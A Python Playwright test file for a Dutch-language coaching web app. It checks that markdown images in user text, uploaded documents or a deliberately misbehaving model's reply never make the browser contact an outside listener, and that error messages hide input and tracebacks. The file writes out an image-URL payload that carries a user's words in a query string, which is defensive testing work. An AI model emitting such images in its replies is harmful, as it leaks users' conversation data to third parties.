"""Nothing of a talk leaves by way of the browser, whatever stands in a text."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from coach.web.texts import texts_for
from tests.browser.conftest import Visit
from tests.browser.serving import Served
from tests.browser.talking import begin, box, replied, said, say, settled
from tests.browser.test_model import beside
from tests.browser.test_own_documents import keep, library
from tests.fakes.listener import Listener
from tests.fakes.misbehaving import MisbehavingServer, good

HERE = Path(__file__).parent
TEXTS = texts_for("nl")


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as started:
        yield started


def look(browser: Browser, script: str, folder: Path, listener: Listener) -> str:
    """Open a page with everything on it that shouldn't be, and return its title."""
    served = Served(folder, scripted=True, script=HERE / script)
    served.environment["LEAK_TO"] = listener.address
    served.start()
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(served.url)
        expect(page.get_by_text("drawn", exact=True)).to_be_visible()
        settled(page)
        expect(page.locator("[data-testid=stMain] img")).to_have_count(2)
        page.wait_for_function("[...document.images].every((image) => image.complete)")
        return page.title()
    finally:
        context.close()
        served.stop()


def test_what_is_drawn_by_mistake_reaches_nobody_and_runs_nothing(
    browser: Browser, tmp_path: Path, listener: Listener
) -> None:
    title = look(browser, "leaky_app.py", tmp_path, listener)
    assert listener.asked == []
    assert title != "taken over"


def test_the_policy_is_what_stops_it(browser: Browser, tmp_path: Path, listener: Listener) -> None:
    title = look(browser, "leaky_page.py", tmp_path, listener)
    assert {"/markdown.svg?said=Marjan", "/html.svg?said=Marjan"} <= set(listener.asked)
    assert title == "taken over"


def test_an_image_in_ones_own_text_a_document_or_a_models_reply_is_never_fetched(
    tmp_path: Path, visit: Visit, listener: Listener
) -> None:
    image = f"![foto]({listener.address}/spy.svg?said=Marjan)"
    file = tmp_path / "Afspraken.txt"
    file.write_text(f"De achterwacht in het weekend {image} is Ronald.\n")
    model = MisbehavingServer(good(f"Alle roosters, {image} naast haar routes. Wat kostte het?"))
    with model:
        served = beside(model, tmp_path)
        served.start()
        try:
            page = visit(served.url)
            begin(page, served.url)
            say(page, f"Marjan deed vanaf februari {image} alle roosters.")
            assert model.asked.is_set()
            assert f"{listener.address}/spy.svg" in said(page).last.inner_text()
            expect(replied(page)).to_have_count(2)
            nothing_to_fetch(page)
            page.get_by_role("button", name=TEXTS("talk.to_plan")).first.click()
            expect(page.locator(".st-key-sheet_plan h1")).to_be_visible()
            nothing_to_fetch(page)
            library(page, served)
            keep(page, file)
            page.locator("[class*=st-key-own_read_desk] button").click()
            expect(page.locator(".st-key-reading").get_by_text("/spy.svg")).to_be_visible()
            nothing_to_fetch(page)
        finally:
            served.stop()
    assert listener.asked == []


def nothing_to_fetch(page: Page) -> None:
    settled(page)
    assert page.locator("[data-testid=stMain] :is(img, a[href*=spy])").count() == 0


def test_what_breaks_unforeseen_shows_neither_words_nor_code(
    scripted: Served, visit: Visit
) -> None:
    page = visit(scripted.url)
    begin(page, scripted.url)
    box(page).fill("Dit breekt op Zjelvana.")
    box(page).press("Enter")
    texts = texts_for("nl")
    trouble = page.get_by_role("alert").filter(has_text=texts("errors.went_wrong"))
    expect(trouble).to_contain_text(texts("errors.went_wrong_text"))
    settled(page)
    assert page.get_by_test_id("stException").count() == 0
    told = trouble.inner_text()
    assert not [word for word in ("Zjelvana", "RuntimeError", ".py", "Traceback") if word in told]
